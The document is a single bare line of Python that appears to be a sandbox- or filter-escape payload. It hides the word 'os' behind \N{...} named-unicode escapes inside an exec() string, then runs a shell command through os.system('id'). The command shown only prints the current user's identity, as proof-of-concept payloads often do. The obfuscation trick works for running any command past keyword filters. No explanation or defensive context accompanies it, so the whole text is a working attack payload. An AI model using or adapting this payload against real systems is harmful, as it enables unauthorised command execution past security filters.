exec("import \N{latin small letter o}s\n\N{latin small letter o}s.system('id')")
